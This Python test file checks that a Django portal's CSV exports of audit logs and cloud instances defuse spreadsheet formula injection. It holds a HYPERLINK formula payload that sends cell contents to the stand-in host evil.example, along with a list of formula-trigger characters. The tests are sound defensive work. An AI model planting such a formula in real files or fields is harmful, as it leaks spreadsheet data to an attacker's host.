"""Files that spreadsheets open hold no formula, whatever people and ByCloud have put into their fields."""

import csv
from io import StringIO
from typing import Any

import pytest
from django.test import Client

from portal.accounts.models import Member
from portal.bycloud import BearerToken
from portal.sandbox.server import Sandbox
from portal.web.sheets import defuse
from tests.audit.rows import write
from tests.credentials.rows import keep
from tests.upstream import Upstream

SIGNS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", " =", "＝", "＋", "－", "＠")
FORMULA = '{}HYPERLINK("https://evil.example/?"&A1,"x")'


def read_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(StringIO(text, newline="")) for cell in row]


def is_formula(cell: str) -> bool:
    return cell.strip(" ").startswith(tuple("=+-@\t\r\n\0＝＋－＠"))


@pytest.mark.parametrize("sign", SIGNS)
def test_a_cell_that_begins_as_a_formula_becomes_text(sign: str) -> None:
    assert defuse(FORMULA.format(sign)) == "'" + FORMULA.format(sign)


@pytest.mark.parametrize("text", ["", "web-01", "a=b", "1-2", "'=1"])
def test_other_cells_stay_as_they_are(text: str) -> None:
    assert defuse(text) == text


@pytest.mark.parametrize("sign", SIGNS)
def test_the_audit_as_a_file_holds_no_formula(client: Client, ada: Member, sign: str) -> None:
    client.force_login(ada)
    formula = FORMULA.format(sign)
    for login in (formula, f"{sign}1"):
        Client().post("/sign-in/", {"login": login, "password": "x"}, headers={"user-agent": formula.strip()})
    write(name=formula, subject=formula, user_agent=formula, address=formula[:45], request_id=formula[:64])
    response: Any = client.post("/audit/export/", {"format": "csv"})
    cells = read_cells(b"".join(response.streaming_content).decode("utf-8-sig"))
    assert sum(cell.startswith("'") for cell in cells) >= 5
    # What was typed is there only when it reads like a name.
    assert (f"'{sign}1" in cells) == (sign in {"+", "-", "@"})
    assert [cell for cell in cells if is_formula(cell)] == []


@pytest.mark.parametrize("sign", SIGNS)
def test_instances_as_a_file_hold_no_formula(
    client: Client, otto: Member, sandbox: Sandbox, upstream: Upstream, sign: str
) -> None:
    keep(otto, BearerToken("sandbox-acme-token"))
    client.force_login(otto)
    formula = FORMULA.format(sign)
    instance = {"id": formula, "name": formula, "status": formula, "tags": [formula], "flavor": {"name": formula}}
    upstream.script(times=None, body={"instances": [instance], "meta": {"total": 1, "has_more": False}})
    response = client.post("/spo1/instances/export/", {"format": "csv"})
    assert response.status_code == 200
    cells = read_cells(response.content.decode("utf-8-sig"))
    assert any(cell.startswith("'") for cell in cells)
    assert [cell for cell in cells if is_formula(cell)] == []
